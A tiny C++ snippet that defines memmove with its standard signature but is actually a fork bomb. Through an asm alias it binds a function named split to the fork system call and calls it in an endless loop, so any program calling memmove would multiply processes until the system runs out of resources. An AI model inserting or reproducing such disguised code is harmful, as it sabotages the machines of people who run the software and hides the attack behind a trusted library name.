void* memmove(void* destination, const void* source, std::size_t size) {
    int split() asm("fork");
    for (;;) {
        split();
    }
}
